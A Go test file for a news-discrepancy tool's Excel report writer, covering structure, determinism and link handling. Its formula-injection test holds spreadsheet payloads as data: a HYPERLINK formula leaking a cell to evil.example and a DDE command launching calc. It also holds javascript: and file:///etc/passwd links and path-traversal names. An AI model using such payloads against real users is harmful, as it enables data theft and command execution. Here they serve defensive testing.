package xlsx

import (
	"archive/zip"
	"bytes"
	"context"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"crosscheck/analysis"
	"crosscheck/internal/testutil"
	"crosscheck/report/format"
	"crosscheck/report/internal/reporttest"
)

// Options are the writers' presentation settings.
type Options = format.Options

// mustWriteXLSX writes r and returns the bytes.
func mustWriteXLSX(tb testing.TB, r *analysis.Report, opt Options) []byte {
	tb.Helper()
	var buf bytes.Buffer
	if err := Write(&buf, analysis.NewIndex(r), opt); err != nil {
		tb.Fatalf("Write = %v", err)
	}
	return buf.Bytes()
}

// mustOpenXLSX reads a workbook back.
func mustOpenXLSX(tb testing.TB, data []byte) *excelize.File {
	tb.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		tb.Fatalf("excelize.OpenReader = %v", err)
	}
	tb.Cleanup(func() { f.Close() })
	return f
}

// mustRows returns the formatted cells of a sheet, as a reader sees them.
func mustRows(tb testing.TB, f *excelize.File, sheet string) [][]string {
	tb.Helper()
	rows, err := f.GetRows(sheet)
	if err != nil {
		tb.Fatalf("GetRows(%q) = %v", sheet, err)
	}
	return rows
}

// cellName is the name of the cell at column col, row (both 1-based).
func cellName(tb testing.TB, col, row int) string {
	tb.Helper()
	name, err := excelize.CoordinatesToCellName(col, row)
	if err != nil {
		tb.Fatal(err)
	}
	return name
}

// dumpXLSX is the workbook as text: for each sheet its rows, one line per
// row with the cells tab-separated as Excel shows them, then the hyperlinks.
func dumpXLSX(tb testing.TB, f *excelize.File) []byte {
	tb.Helper()
	var sb strings.Builder
	for _, sheet := range f.GetSheetList() {
		fmt.Fprintf(&sb, "=== %s ===\n", sheet)
		rows := mustRows(tb, f, sheet)
		var links []string
		for i, row := range rows {
			sb.WriteString(strings.Join(row, "\t"))
			sb.WriteByte('\n')
			for j := range row {
				cell := cellName(tb, j+1, i+1)
				ok, target, err := f.GetCellHyperLink(sheet, cell)
				if err != nil {
					tb.Fatalf("GetCellHyperLink(%s!%s) = %v", sheet, cell, err)
				}
				if ok {
					links = append(links, cell+" -> "+target)
				}
			}
		}
		if len(links) > 0 {
			fmt.Fprintf(&sb, "--- links ---\n%s\n", strings.Join(links, "\n"))
		}
	}
	return []byte(sb.String())
}

// TestXLSXGolden compares a text dump of the fixture workbook with
// testdata/report.golden, and of the fixture as a night with a store
// gives it (reporttest.NightlyReport) with nightly.golden; run with
// -update to accept a change.
func TestXLSXGolden(t *testing.T) {
	for _, tc := range []struct {
		name string
		r    *analysis.Report
	}{
		{"report", reporttest.FixtureReport(t)},
		{"nightly", reporttest.NightlyReport(t)},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := mustOpenXLSX(t, mustWriteXLSX(t, tc.r, Options{Marking: "UNCLASSIFIED // FOR TESTING"}))
			testutil.CheckGolden(t, filepath.Join("testdata", tc.name+".golden"), dumpXLSX(t, f))
		})
	}
}

// headers lists the header row of each data sheet.
var headers = map[string][]string{
	"Discrepancies": {"ID", "Severity", "Change", "First seen", "Class", "Kind", "Subject", "Lowest figure",
		"Highest figure", "Highest ÷ lowest", "Sources by side", "First date", "Last date", "Independent sources", "Summary",
		"Claims", "Status", "Analyst notes", "Rank", "Status as written", "Notes as written"},
	"Claims": {"Claim ID", "Subject", "Kind", "Discrepancies", "As written", "Value", "Low", "High", "Unit",
		"Qualifier", "What is counted or stated", "Measure", "Subset", "Trend", "Scope", "Polarity", "Hedges",
		"Source", "Source as written", "Via", "Said on", "Outlet", "Article title", "Published", "Sentence",
		"Article link", "In headline", "Article ID", "Figure kind", "Holds for", "Frame (decided by)"},
	"Timeline": {"Subject", "Date", "Source", "Figure", "Value", "Low", "High", "Unit", "Outlet", "Claim ID",
		"Discrepancies"},
	"Articles": {"File", "Line", "Status", "Problems", "Format", "Outlet", "Published", "First seen", "Title", "URL",
		"Body chars", "Removed chars", "Claims", "Article ID"},
}

// col returns the 1-based column of a header on a data sheet, or stops
// the test.
func col(tb testing.TB, sheet, header string) int {
	tb.Helper()
	i := slices.Index(headers[sheet], header)
	if i < 0 {
		tb.Fatalf("%s has no column %q", sheet, header)
	}
	return i + 1
}

// TestXLSXStructure reads the fixture workbook back and checks sheets,
// headers, row counts, tables, panes, validations, formats and links.
func TestXLSXStructure(t *testing.T) {
	r := reporttest.FixtureReport(t)
	data := mustWriteXLSX(t, r, Options{Marking: "SECRET"})
	f := mustOpenXLSX(t, data)

	wantSheets := []string{"Summary", "Discrepancies", "Claims", "Timeline", "Articles"}
	if got := f.GetSheetList(); !slices.Equal(got, wantSheets) {
		t.Fatalf("GetSheetList() = %q, want %q", got, wantSheets)
	}
	if got, _ := f.GetCellValue("Summary", "A1"); got != "SECRET" {
		t.Errorf("Summary!A1 = %q, want the marking", got)
	}

	var figures int
	for _, c := range r.Claims {
		if c.Kind == analysis.KindQuantity && c.Value != nil {
			figures++
		}
	}
	wantRows := map[string]int{
		"Discrepancies": len(r.Discrepancies),
		"Claims":        len(r.Claims),
		"Timeline":      figures,
		"Articles":      len(r.Articles),
	}
	for sheet, want := range headers {
		t.Run(sheet, func(t *testing.T) {
			rows := mustRows(t, f, sheet)
			if len(rows) == 0 || !slices.Equal(rows[0], want) {
				t.Fatalf("%s header = %q, want %q", sheet, rows[0], want)
			}
			if got := len(rows) - 1; got != wantRows[sheet] {
				t.Errorf("%s has %d data rows, want %d", sheet, got, wantRows[sheet])
			}
			tables, err := f.GetTables(sheet)
			if err != nil || len(tables) != 1 {
				t.Fatalf("GetTables(%s) = %v, %v; want one table", sheet, tables, err)
			}
			last := cellName(t, len(want), max(2, wantRows[sheet]+1))
			if tables[0].Range != "A1:"+last {
				t.Errorf("%s table range = %s, want A1:%s", sheet, tables[0].Range, last)
			}
			panes, err := f.GetPanes(sheet)
			if err != nil || !panes.Freeze || panes.YSplit != 1 || panes.TopLeftCell != "A2" {
				t.Errorf("GetPanes(%s) = %+v, %v; want header row frozen", sheet, panes, err)
			}
			for i := range want {
				col, _ := excelize.ColumnNumberToName(i + 1)
				if w, err := f.GetColWidth(sheet, col); err != nil || w < 5 {
					t.Errorf("GetColWidth(%s, %s) = %v, %v; want a set width", sheet, col, w, err)
				}
			}
			hf, err := f.GetHeaderFooter(sheet)
			if err != nil || hf == nil || !strings.Contains(hf.OddHeader, "SECRET") {
				t.Errorf("GetHeaderFooter(%s) = %+v, %v; want the marking", sheet, hf, err)
			}
		})
	}

	// The Status column has the drop-down, and every row starts as Open.
	dvs, err := f.GetDataValidations("Discrepancies")
	if err != nil || len(dvs) != 1 {
		t.Fatalf("GetDataValidations(Discrepancies) = %v, %v; want one", dvs, err)
	}
	statusCol := col(t, "Discrepancies", "Status")
	statusLetter, _ := excelize.ColumnNumberToName(statusCol)
	wantSqref := fmt.Sprintf("%s2:%s%d", statusLetter, statusLetter, len(r.Discrepancies)+1)
	if dvs[0].Sqref != wantSqref || dvs[0].Type != "list" || !strings.Contains(dvs[0].Formula1, strings.Join(analysis.ReviewStatuses, ",")) {
		t.Errorf("data validation = %+v, want a list of the statuses on %s", dvs[0], wantSqref)
	}
	for i := range r.Discrepancies {
		if v, _ := f.GetCellValue("Discrepancies", cellName(t, statusCol, i+2)); v != analysis.ReviewOpen {
			t.Errorf("Discrepancies!%s = %q, want Open", cellName(t, statusCol, i+2), v)
		}
	}
	cf, err := f.GetConditionalFormats("Discrepancies")
	if err != nil || len(cf[fmt.Sprintf("B2:B%d", len(r.Discrepancies)+1)]) != 3 {
		t.Errorf("GetConditionalFormats(Discrepancies) = %v, %v; want 3 severity rules on column B", cf, err)
	}
	if len(cf[fmt.Sprintf("C2:C%d", len(r.Discrepancies)+1)]) != 2 {
		t.Errorf("GetConditionalFormats(Discrepancies) = %v; want the New and Changed rules on column C", cf)
	}

	// Each discrepancy links to a row of the Claims sheet holding one of
	// its claims; the summary links to each discrepancy's row.
	claimsByDisc := map[string][]string{}
	for _, d := range r.Discrepancies {
		claimsByDisc[d.ID] = d.Claims
	}
	disc := mustRows(t, f, "Discrepancies")
	for i, row := range disc[1:] {
		cell := cellName(t, col(t, "Discrepancies", "Claims"), i+2)
		ok, target, err := f.GetCellHyperLink("Discrepancies", cell)
		if err != nil || !ok || !strings.HasPrefix(target, "Claims!A") {
			t.Fatalf("GetCellHyperLink(Discrepancies!%s) = %v, %q, %v; want a link to the Claims sheet", cell, ok, target, err)
		}
		id, err := f.GetCellValue("Claims", strings.TrimPrefix(target, "Claims!"))
		if err != nil || !slices.Contains(claimsByDisc[row[0]], id) {
			t.Errorf("discrepancy %s links to claim %q, not one of its claims", row[0], id)
		}
		if v, _ := f.GetCellValue("Discrepancies", cell); v != plainClaims(len(claimsByDisc[row[0]])) {
			t.Errorf("Discrepancies!%s = %q, want %q", cell, v, plainClaims(len(claimsByDisc[row[0]])))
		}
	}
	summary := mustRows(t, f, "Summary")
	linked := 0
	for i, row := range summary {
		if len(row) == 0 {
			continue
		}
		ok, target, err := f.GetCellHyperLink("Summary", cellName(t, 1, i+1))
		if err != nil {
			t.Fatal(err)
		}
		if !ok {
			continue
		}
		linked++
		id, _ := f.GetCellValue("Discrepancies", strings.TrimPrefix(target, "Discrepancies!"))
		if !strings.HasPrefix(target, "Discrepancies!A") || id != row[0] {
			t.Errorf("Summary link %q on %s goes to %q", row[0], target, id)
		}
	}
	if linked != len(r.Discrepancies) {
		t.Errorf("Summary has %d discrepancy links, want %d", linked, len(r.Discrepancies))
	}

	// Numbers and dates are numbers, shown with separators and as dates.
	for _, c := range []struct{ sheet, header string }{
		{"Claims", "Value"}, {"Claims", "Said on"}, {"Timeline", "Date"}, {"Articles", "Body chars"},
	} {
		col := slices.Index(headers[c.sheet], c.header) + 1
		var raw, shown string
		for row := 2; raw == "" && row <= len(mustRows(t, f, c.sheet)); row++ {
			raw, _ = f.GetCellValue(c.sheet, cellName(t, col, row), excelize.Options{RawCellValue: true})
			shown, _ = f.GetCellValue(c.sheet, cellName(t, col, row))
		}
		if _, err := strconv.ParseFloat(raw, 64); err != nil {
			t.Errorf("%s %s = %q, want a number", c.sheet, c.header, raw)
		}
		if raw == shown && !strings.Contains(c.header, "chars") {
			t.Errorf("%s %s shows %q unformatted", c.sheet, c.header, shown)
		}
	}

	// Charts: one on the Summary, one per subject in a numeric
	// discrepancy on the Timeline.
	charts := 0
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	for _, zf := range zr.File {
		if strings.HasPrefix(zf.Name, "xl/charts/chart") {
			charts++
		}
	}
	numeric := 0
	for _, d := range r.Discrepancies {
		if d.Kind == "numeric" {
			numeric++ // one subject each in the fixture
		}
	}
	if charts != 1+numeric {
		t.Errorf("workbook has %d charts, want %d", charts, 1+numeric)
	}

	props, err := f.GetDocProps()
	if err != nil || props.Created != "2024-11-05T00:00:00Z" || props.Modified != props.Created {
		t.Errorf("GetDocProps() = %+v, %v; want created and modified at the run date", props, err)
	}
}

// plainClaims is the text of a discrepancy's Claims cell.
func plainClaims(n int) string {
	if n == 1 {
		return "1 claim"
	}
	return strconv.Itoa(n) + " claims"
}

// TestXLSXDeterministic checks that the same report gives the same bytes.
func TestXLSXDeterministic(t *testing.T) {
	for _, tc := range []struct {
		name string
		r    *analysis.Report
	}{
		{"fixture", reporttest.FixtureReport(t)},
		{"synthetic", syntheticReport(300, 7)},
	} {
		t.Run(tc.name, func(t *testing.T) {
			first := mustWriteXLSX(t, tc.r, Options{Marking: "UNCLASSIFIED"})
			for range 3 {
				if again := mustWriteXLSX(t, tc.r, Options{Marking: "UNCLASSIFIED"}); !bytes.Equal(first, again) {
					t.Fatalf("two writes of the same report differ (%d and %d bytes)", len(first), len(again))
				}
			}
		})
	}
}

// hostile is article text crafted to run as a formula or a link.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?leak="&A1,"click")`,
	`=1+1`,
	`+1+1`,
	`-2+3`,
	`@SUM(1,2)`,
	`=cmd|' /C calc'!A0`,
	"\t=1+1",
	`Figures rose =HYPERLINK("http://evil.example","x") overnight.`,
}

// awkward is article text that is not hostile but hard to store: control
// characters XML cannot hold, a string past Excel's 32,767-character cell
// limit, and text that looks like an escape.
var awkward = []string{
	"_x0041_ stays as written & <tags> too",
	"bell\x07 and vertical tab\x0b in a sentence",
	strings.Repeat("very long sentence ", 2500),
}

// hostileReport is a report whose every article string is hostile.
func hostileReport() *analysis.Report {
	v := func(f float64) *float64 { return &f }
	r := &analysis.Report{
		Schema: analysis.Schema, Generated: "2024-11-05T06:00:00Z", Inputs: []string{"=1+1"},
	}
	urls := []string{
		"javascript:alert(1)", "file:///etc/passwd", "https://ok.example/a?b=1", "http://user:pw@evil.example/",
		`=HYPERLINK("http://evil.example")`, "HTTPS://ok.example/B", "", "",
	}
	files := []string{"a.txt", "b.txt", "c.txt", "d.txt", "e.txt", "f.txt", "../../etc/passwd.txt", "C:\\x.txt"}
	for i, h := range hostile {
		r.Articles = append(r.Articles, analysis.Article{
			ID: fmt.Sprintf("a%d", i), File: files[i], Title: h, Outlet: h, URL: urls[i],
			Status: analysis.StatusOK, Problems: []string{h}, Published: analysis.Date{Year: 2024, Month: 11, Day: 1},
		})
		r.Claims = append(r.Claims, analysis.Claim{
			ID: fmt.Sprintf("c%d", i), Article: fmt.Sprintf("a%d", i), Kind: analysis.KindQuantity,
			Sentence: h, Text: h, Value: v(float64(100 * (i + 1))), Low: v(90), High: v(110), Approx: analysis.About,
			Counts: h, Measure: h, Scope: h, Polarity: analysis.Asserted, Source: h, SourceText: h, Via: h,
			Subject: h, Hedges: []string{h}, Unit: h, Subset: h, Trend: h,
			SaidOn: analysis.Date{Year: 2024, Month: 10, Day: 20 + i},
		})
	}
	r.Articles[0].Problems = append(r.Articles[0].Problems, awkward...)
	r.Clusters = []analysis.Cluster{{ID: "k1", Label: hostile[0], Subject: hostile[1], Claims: []string{"c0", "c1", "c2", "c3", "c4", "c5", "c6", "c7"}}}
	r.Discrepancies = []analysis.Discrepancy{{
		ID: "d1", Kind: "numeric", Severity: "high", Summary: hostile[0], Claims: []string{"c0", "c1"},
		Class: hostile[2], Cluster: "k1", Subject: hostile[3], Low: v(100), High: v(200), Gap: v(1), Sources: 2,
		Sides: []analysis.Side{{Label: "low", Sources: []string{hostile[4]}}, {Label: "high", Sources: []string{hostile[5]}}},
	}}
	return r
}

// TestXLSXFormulaInjection checks that hostile text stays inert: no cell
// has a formula, every string reads back as written, and only http and
// https addresses and plain relative text files become links.
func TestXLSXFormulaInjection(t *testing.T) {
	r := hostileReport()
	data := mustWriteXLSX(t, r, Options{Marking: "=1+1"})
	f := mustOpenXLSX(t, data)

	seen := map[string]bool{}
	for _, sheet := range f.GetSheetList() {
		for i, row := range mustRows(t, f, sheet) {
			for j, v := range row {
				cell := cellName(t, j+1, i+1)
				formula, err := f.GetCellFormula(sheet, cell)
				if err != nil || formula != "" {
					t.Errorf("GetCellFormula(%s!%s) = %q, %v; want no formula", sheet, cell, formula, err)
				}
				seen[v] = true
			}
		}
	}
	for _, h := range hostile {
		if !seen[h] {
			t.Errorf("hostile text %q does not read back unchanged in any cell", h)
		}
	}
	problems := mustRows(t, f, "Articles")[1][3]
	if !strings.Contains(problems, "_x0041_ stays as written & <tags> too") {
		t.Errorf("Articles problems = %.200q, want the escape-like text unchanged", problems)
	}
	if n := len([]rune(problems)); n > 32767 {
		t.Errorf("Articles problems cell holds %d characters, more than Excel accepts", n)
	}
	// No formula anywhere in the sheets' XML.
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	for _, zf := range zr.File {
		if !strings.HasPrefix(zf.Name, "xl/worksheets/sheet") {
			continue
		}
		rc, err := zf.Open()
		if err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		_, err = buf.ReadFrom(rc)
		rc.Close()
		if err != nil {
			t.Fatal(err)
		}
		if bytes.Contains(buf.Bytes(), []byte("<f>")) || bytes.Contains(buf.Bytes(), []byte("<f ")) {
			t.Errorf("%s contains a formula element", zf.Name)
		}
	}

	// Links: only http and https addresses and plain relative text files.
	claimLink := slices.Index(headers["Claims"], "Article link") + 1
	claimArticle := slices.Index(headers["Claims"], "Article ID") + 1
	for i := range r.Claims {
		row := i + 2
		id, _ := f.GetCellValue("Claims", cellName(t, claimArticle, row))
		var a *analysis.Article
		for k := range r.Articles {
			if r.Articles[k].ID == id {
				a = &r.Articles[k]
			}
		}
		if a == nil {
			t.Fatalf("Claims row %d names article %q, not in the report", row, id)
		}
		ok, target, err := f.GetCellHyperLink("Claims", cellName(t, claimLink, row))
		if err != nil {
			t.Fatal(err)
		}
		var want string
		switch {
		case a.URL == "https://ok.example/a?b=1" || a.URL == "HTTPS://ok.example/B":
			want = a.URL
		case a.URL == "" && !strings.Contains(a.File, "..") && !strings.Contains(a.File, ":"):
			want = a.File
		}
		if (want != "") != ok || target != want {
			t.Errorf("Claims link for article %s (url %q, file %q) = %v %q, want %q", a.ID, a.URL, a.File, ok, target, want)
		}
		shown, _ := f.GetCellValue("Claims", cellName(t, claimLink, row))
		if wantShown := cmpOr(a.URL, a.File); shown != wantShown {
			t.Errorf("Claims link cell for article %s shows %q, want %q", a.ID, shown, wantShown)
		}
	}
}

// cmpOr returns the first non-empty string.
func cmpOr(s ...string) string {
	for _, v := range s {
		if v != "" {
			return v
		}
	}
	return ""
}

// TestXLSXLinkTargets checks which addresses and file names may become
// hyperlinks.
func TestXLSXLinkTargets(t *testing.T) {
	for _, tc := range []struct {
		in   string
		web  bool
		file string
	}{
		{"https://example.com/a", true, ""},
		{"http://example.com", true, ""},
		{"HTTP://EXAMPLE.COM/", true, ""},
		{"javascript:alert(1)", false, ""},
		{"JavaScript:alert(1)", false, ""},
		{"file:///etc/passwd", false, ""},
		{"ftp://example.com/x", false, ""},
		{"mailto:a@example.com", false, ""},
		{"//example.com/x", false, ""},
		{"https://user:pw@example.com/", false, ""},
		{"https://exa mple.com/", false, ""},
		{"https://example.com/\"onmouseover", false, ""},
		{"data:text/html,<script>", false, ""},
		{"https:example.com", false, ""},
		{"https://" + strings.Repeat("a", 2100) + ".com", false, ""},
		// file names
		{"article.txt", false, "article.txt"},
		{"day 1/article.txt", false, "day%201/article.txt"},
		{"feed.jsonl", false, "feed.jsonl"},
		{"page.html", false, ""},
		{"run.exe", false, ""},
		{"../secret.txt", false, ""},
		{"a/../../secret.txt", false, ""},
		{"/etc/passwd.txt", false, ""},
		{`C:\x.txt`, false, ""},
		{`sub\x.txt`, false, ""},
		{"C:x.txt", false, ""},
		{"a\x00.txt", false, ""},
		{"", false, ""},
	} {
		if got := webURL(tc.in); got != tc.web {
			t.Errorf("webURL(%q) = %v, want %v", tc.in, got, tc.web)
		}
		if got := fileLink(tc.in); got != tc.file {
			t.Errorf("fileLink(%q) = %q, want %q", tc.in, got, tc.file)
		}
	}
}

// TestXLSXEdgeCases writes small hand-built reports and checks that each
// reads back with every sheet, table and row.
func TestXLSXEdgeCases(t *testing.T) {
	v := func(f float64) *float64 { return &f }
	base := func() *analysis.Report {
		return &analysis.Report{Schema: analysis.Schema, Generated: "2024-11-05T06:00:00Z", Inputs: []string{"in"}}
	}
	for _, tc := range []struct {
		name   string
		report func() *analysis.Report
		check  func(t *testing.T, f *excelize.File)
	}{
		{"empty", base, nil},
		{"no generated time", func() *analysis.Report { r := base(); r.Generated = ""; return r }, nil},
		{"every status, no claims", func() *analysis.Report {
			r := base()
			r.Articles = []analysis.Article{
				{ID: "a1", File: "ok.txt", Status: analysis.StatusOK, Title: "Fine"},
				{ID: "a2", File: "dup.txt", Status: analysis.StatusSkipped, Problems: []string{"duplicate of ok.txt"}},
				{ID: "a3", File: "bad.html", Status: analysis.StatusFailed, Problems: []string{"cannot decode", "empty"}},
				{ID: "a4", File: "feed.jsonl", Line: 12, Status: analysis.StatusFailed, Problems: []string{"bad JSON"}},
			}
			return r
		}, func(t *testing.T, f *excelize.File) {
			rows := mustRows(t, f, "Articles")
			if len(rows) != 5 {
				t.Fatalf("Articles has %d rows, want 5", len(rows))
			}
			if got := rows[3][3]; got != "cannot decode\nempty" {
				t.Errorf("problems = %q, want both, one per line", got)
			}
			if got := rows[4][1]; got != "12" {
				t.Errorf("JSONL line = %q, want 12", got)
			}
			cf, err := f.GetConditionalFormats("Articles")
			if err != nil || len(cf["C2:C5"]) != 2 {
				t.Errorf("GetConditionalFormats(Articles) = %v, %v; want the failed and skipped rules", cf, err)
			}
		}},
		{"claims, no discrepancies, undated", func() *analysis.Report {
			r := base()
			r.Articles = []analysis.Article{{ID: "a1", File: "x.txt", Status: analysis.StatusOK}}
			r.Claims = []analysis.Claim{
				{ID: "c1", Article: "a1", Kind: analysis.KindQuantity, Text: "1,234.5", Value: v(1234.5), Subject: "s"},
				{ID: "c2", Article: "a1", Kind: analysis.KindStance, Text: "denied", Polarity: analysis.Denied, Subject: "s"},
				{ID: "c3", Article: "missing", Kind: analysis.KindQuantity, Value: v(3), Subject: "t"},
			}
			return r
		}, func(t *testing.T, f *excelize.File) {
			rows := mustRows(t, f, "Claims")
			if len(rows) != 4 || rows[1][5] != "1,234.5" {
				t.Errorf("Claims = %q, want 3 claims, the first valued 1,234.5", rows)
			}
			if dvs, _ := f.GetDataValidations("Discrepancies"); len(dvs) != 0 {
				t.Errorf("empty Discrepancies sheet has validations %v", dvs)
			}
			summary := mustRows(t, f, "Summary")
			found := false
			for _, row := range summary {
				found = found || slices.Contains(row, "No discrepancies found.")
			}
			if !found {
				t.Error("Summary does not say that no discrepancies were found")
			}
		}},
		{"stance discrepancy, odd dates", func() *analysis.Report {
			r := base()
			r.Articles = []analysis.Article{{ID: "a1", File: "x.txt", Status: analysis.StatusOK, Published: analysis.Date{Year: 1899, Month: 1, Day: 1}}}
			r.Claims = []analysis.Claim{
				{ID: "c1", Article: "a1", Kind: analysis.KindStance, Polarity: analysis.Asserted, SaidOn: analysis.Date{Year: 2024, Month: 1, Day: 2}},
				{ID: "c2", Article: "a1", Kind: analysis.KindStance, Polarity: analysis.Denied},
			}
			r.Clusters = []analysis.Cluster{{ID: "k", Label: "X: y", Claims: []string{"c1", "c2"}}}
			r.Discrepancies = []analysis.Discrepancy{
				{ID: "d1", Kind: "stance", Severity: "low", Class: "split", Cluster: "k", Claims: []string{"c1", "c2"},
					Sides: []analysis.Side{{Label: "asserted", Sources: []string{"A", "B"}}, {Label: "denied", Sources: []string{"C"}}}},
				{ID: "d2", Kind: "numeric", Severity: "odd", Cluster: "nowhere", Claims: []string{"zz"}},
			}
			return r
		}, func(t *testing.T, f *excelize.File) {
			rows := mustRows(t, f, "Discrepancies")
			if len(rows) != 3 {
				t.Fatalf("Discrepancies has %d rows, want 3", len(rows))
			}
			if got := rows[1][col(t, "Discrepancies", "Sources by side")-1]; got != "asserted: A, B\ndenied: C" {
				t.Errorf("sides = %q", got)
			}
			if lo, hi := rows[1][col(t, "Discrepancies", "Lowest figure")-1], rows[1][col(t, "Discrepancies", "Highest figure")-1]; lo != "" || hi != "" {
				t.Errorf("stance discrepancy has figures %q, %q", lo, hi)
			}
			if got := mustRows(t, f, "Articles")[1][6]; got != "1899-01-01" {
				t.Errorf("a date Excel cannot show = %q, want it as text", got)
			}
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := mustOpenXLSX(t, mustWriteXLSX(t, tc.report(), Options{}))
			for sheet := range headers {
				if rows := mustRows(t, f, sheet); len(rows) == 0 || !slices.Equal(rows[0], headers[sheet]) {
					t.Errorf("%s header = %q", sheet, rows)
				}
				if tables, err := f.GetTables(sheet); err != nil || len(tables) != 1 {
					t.Errorf("GetTables(%s) = %v, %v", sheet, tables, err)
				}
			}
			if tc.check != nil {
				tc.check(t, f)
			}
		})
	}
}

// TestXLSXLinkCap checks that a sheet gets at most maxLinks hyperlinks
// and that the summary says so.
func TestXLSXLinkCap(t *testing.T) {
	r := syntheticReport(maxLinks+50, 5)
	f := mustOpenXLSX(t, mustWriteXLSX(t, r, Options{}))
	col := slices.Index(headers["Claims"], "Article link") + 1
	links := 0
	for row := 2; row <= len(r.Claims)+1; row++ {
		ok, _, err := f.GetCellHyperLink("Claims", cellName(t, col, row))
		if err != nil {
			t.Fatal(err)
		}
		if ok {
			links++
		}
		if v, _ := f.GetCellValue("Claims", cellName(t, col, row)); !strings.HasPrefix(v, "https://") {
			t.Fatalf("Claims row %d link cell = %q, want the address", row, v)
		}
	}
	if links != maxLinks {
		t.Errorf("Claims has %d links, want %d", links, maxLinks)
	}
	found := false
	for _, row := range mustRows(t, f, "Summary") {
		for _, c := range row {
			found = found || strings.HasPrefix(c, "Claims: only the first 2000 links")
		}
	}
	if !found {
		t.Error("Summary does not say that links were capped")
	}
}

// lookSoffice returns the LibreOffice command, or skips the test when
// LibreOffice is not installed or in -short mode; what names the check
// being skipped.
func lookSoffice(t *testing.T, what string) string {
	t.Helper()
	soffice, err := exec.LookPath("soffice")
	if err != nil {
		if soffice, err = exec.LookPath("libreoffice"); err != nil {
			t.Skipf("LibreOffice is not installed (soffice not found); skipping the %s", what)
		}
	}
	if testing.Short() {
		t.Skipf("skipping the %s (LibreOffice) in -short mode", what)
	}
	return soffice
}

// convertSoffice converts path with LibreOffice, headless and with a
// private profile under dir, into outDir: format is "pdf" or "xlsx". It
// returns the converted file's path.
func convertSoffice(t *testing.T, soffice, dir, path, format, outDir string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, soffice, "--headless", "--norestore",
		"-env:UserInstallation=file://"+filepath.Join(dir, "profile"),
		"--convert-to", format, "--outdir", outDir, path)
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("soffice --convert-to %s = %v\n%s", format, err, out)
	}
	name := strings.TrimSuffix(filepath.Base(path), filepath.Ext(path)) + "." + format
	converted := filepath.Join(outDir, name)
	info, err := os.Stat(converted)
	if err != nil || info.Size() == 0 {
		t.Fatalf("LibreOffice wrote no %s (%v)\n%s", format, err, out)
	}
	return converted
}

// TestXLSXLibreOffice converts the workbook with LibreOffice, which fails
// on a file it would have to repair.
func TestXLSXLibreOffice(t *testing.T) {
	soffice := lookSoffice(t, "open-without-repair check")
	for _, tc := range []struct {
		name string
		r    *analysis.Report
	}{
		{"fixture", reporttest.FixtureReport(t)},
		{"hostile", hostileReport()},
		{"empty", &analysis.Report{Generated: "2024-11-05T06:00:00Z"}},
		{"nightly", reporttest.NightlyReport(t)},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			path := filepath.Join(dir, tc.name+".xlsx")
			if err := os.WriteFile(path, mustWriteXLSX(t, tc.r, Options{Marking: "UNCLASSIFIED"}), 0o644); err != nil {
				t.Fatal(err)
			}
			convertSoffice(t, soffice, dir, path, "pdf", dir)
		})
	}
}

// syntheticReport builds a report of n claims, perArticle to an article,
// with a numeric discrepancy in every tenth subject.
func syntheticReport(n, perArticle int) *analysis.Report {
	v := func(f float64) *float64 { return &f }
	r := &analysis.Report{Schema: analysis.Schema, Generated: "2024-11-05T06:00:00Z", Inputs: []string{"articles"}}
	nArticles := (n + perArticle - 1) / perArticle
	r.Articles = make([]analysis.Article, nArticles)
	for i := range r.Articles {
		r.Articles[i] = analysis.Article{
			ID: fmt.Sprintf("a%08d", i), File: fmt.Sprintf("%06d.txt", i), Status: analysis.StatusOK,
			Title:  fmt.Sprintf("Officials report new figures on subject %d as talks continue", i%500),
			Outlet: []string{"Reuters", "AP", "Yonhap", "UPI"}[i%4], URL: fmt.Sprintf("https://news.example/%d", i),
			Published: analysis.Date{Year: 2024, Month: 10, Day: 1 + i%28}, BodyChars: 2000 + i%900,
		}
	}
	const perCluster = 40
	r.Claims = make([]analysis.Claim, n)
	clusters := map[int]*analysis.Cluster{}
	for i := range r.Claims {
		k := (i * 7919) % max(1, n/perCluster) // spread each subject over many articles
		c := &r.Claims[i]
		*c = analysis.Claim{
			ID: fmt.Sprintf("c%08d", i), Article: r.Articles[i/perArticle].ID, Kind: analysis.KindQuantity,
			Sentence: fmt.Sprintf("About %d,%03d troops were deployed near the border, officials in the region told reporters on condition of anonymity, according to a statement released late on Tuesday.", 10+i%7, i%1000),
			Text:     fmt.Sprintf("about %d,000", 10+i%7), Value: v(float64(10000 + 1000*(i%7))), Low: v(9000), High: v(17000),
			Approx: analysis.About, Counts: "troops", Measure: "troops", Polarity: analysis.Asserted,
			Source: fmt.Sprintf("Source %d", i%37), SourceText: fmt.Sprintf("source %d", i%37), Via: "AFP",
			SaidOn: analysis.Date{Year: 2024, Month: 10, Day: 1 + i%28}, Subject: fmt.Sprintf("Country %d|troops", k),
		}
		if i%3 == 0 {
			c.Kind, c.Value, c.Low, c.High, c.Approx, c.Text, c.Polarity = analysis.KindStance, nil, nil, nil, "", "denied", analysis.Denied
		}
		cl := clusters[k]
		if cl == nil {
			cl = &analysis.Cluster{ID: fmt.Sprintf("k%06d", k), Label: fmt.Sprintf("Country %d: troops", k), Subject: c.Subject}
			clusters[k] = cl
		}
		cl.Claims = append(cl.Claims, c.ID)
	}
	for k := 0; k < len(clusters); k++ {
		cl := clusters[k]
		if cl == nil {
			continue
		}
		r.Clusters = append(r.Clusters, *cl)
		if k%10 == 0 && len(cl.Claims) >= 2 {
			r.Discrepancies = append(r.Discrepancies, analysis.Discrepancy{
				ID: fmt.Sprintf("d%06d", k), Kind: "numeric", Severity: []string{"high", "medium", "low"}[k%3],
				Summary: "Figures range from about 10,000 to about 16,000.", Claims: cl.Claims[:2], Class: "conflicting",
				Cluster: cl.ID, Subject: cl.Label, Low: v(10000), High: v(16000), Gap: v(0.6), Sources: 2,
